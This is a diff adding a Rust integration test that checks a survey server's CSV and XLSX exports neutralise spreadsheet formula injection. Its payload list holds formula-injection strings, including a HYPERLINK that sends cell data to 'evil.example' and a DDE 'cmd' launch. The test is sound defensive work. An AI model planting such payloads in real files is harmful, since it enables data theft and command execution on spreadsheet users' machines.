@@ -24,6 +24,7 @@ on_both_backends!(
     a_batch_of_bad_items_answers_within_its_budget,
     two_enterprises_racing_for_a_new_id_never_both_hold_it,
     updated_at_ahead_of_the_server_clock_is_rejected,
+    exported_answers_never_run_as_spreadsheet_formulas,
 );
 
 fn errors_of(answer: &support::Answer, index: usize) -> Vec<Value> {
@@ -453,4 +454,83 @@ async fn updated_at_ahead_of_the_server_clock_is_rejected(backend: Backend) {
         .to_owned();
     assert!(vietnamese.contains("đồng hồ"), "{vietnamese}");
     assert_eq!(server.db().revision_count(&uuid(1)).await.unwrap(), 0);
+}
+
+/// CSV cells a spreadsheet would run as a formula (answers and `device_id` starting with `=`,
+/// `+`, `-`, `@`, tab or carriage return) come out with a leading apostrophe; the workbook
+/// keeps them as text cells, unchanged.
+async fn exported_answers_never_run_as_spreadsheet_formulas(backend: Backend) {
+    let Some(server) = TestServer::start(backend).await else {
+        return;
+    };
+    let surveyor = server.token(Role::Surveyor, None).await;
+    let admin = server.token(Role::Admin, None).await;
+    let payloads = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r\n=1+1",
+    ];
+    let items: Vec<Value> = payloads
+        .iter()
+        .enumerate()
+        .map(|(n, payload)| {
+            let mut item = answers(TAX_CODE, 7);
+            item["enterprise_name"] = json!(payload);
+            item["products"] = json!([{"product": payload, "output": 3}]);
+            let mut item = submission(&uuid(u8::try_from(n).unwrap()), 1, item);
+            item["device_id"] = json!(payload);
+            item
+        })
+        .collect();
+    let sent = server.send(&surveyor, &items).await;
+    assert_eq!(sent.statuses(), vec!["accepted"; payloads.len()]);
+
+    let csv = server.get("/api/v1/exports/enterprise.csv", &admin).await;
+    assert_eq!(csv.status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(&csv.bytes[3..]);
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), payloads.len());
+    for (row, payload) in rows.iter().zip(payloads) {
+        let expected = format!("'{payload}");
+        assert_eq!(&row[column("enterprise_name")], expected);
+        assert_eq!(&row[column("device_id")], expected);
+        // Numbers are numbers, unchanged.
+        assert_eq!(&row[column("employees")], "7");
+    }
+    let products = server
+        .get("/api/v1/exports/enterprise.products.csv", &admin)
+        .await;
+    let mut reader = csv::Reader::from_reader(&products.bytes[3..]);
+    let names: Vec<String> = reader.records().map(|r| r.unwrap()[2].to_owned()).collect();
+    let expected: Vec<String> = payloads.iter().map(|p| format!("'{p}")).collect();
+    assert_eq!(names, expected);
+
+    use calamine::{Data, Reader, Xlsx};
+    let xlsx = server.get("/api/v1/exports/enterprise.xlsx", &admin).await;
+    let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx.bytes.clone())).unwrap();
+    let sheet = workbook.worksheet_range("enterprise").unwrap();
+    let formulas = workbook.worksheet_formula("enterprise").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no formula in the workbook"
+    );
+    let header = |name: &str| {
+        (0..sheet.width())
+            .find(|&c| sheet.get((0, c)) == Some(&Data::String(name.into())))
+            .unwrap()
+    };
+    for (n, payload) in payloads.iter().enumerate() {
+        for name in ["enterprise_name", "device_id"] {
+            assert_eq!(
+                sheet.get((n + 1, header(name))),
+                Some(&Data::String((*payload).to_owned())),
+                "{name}"
+            );
+        }
+    }
 }
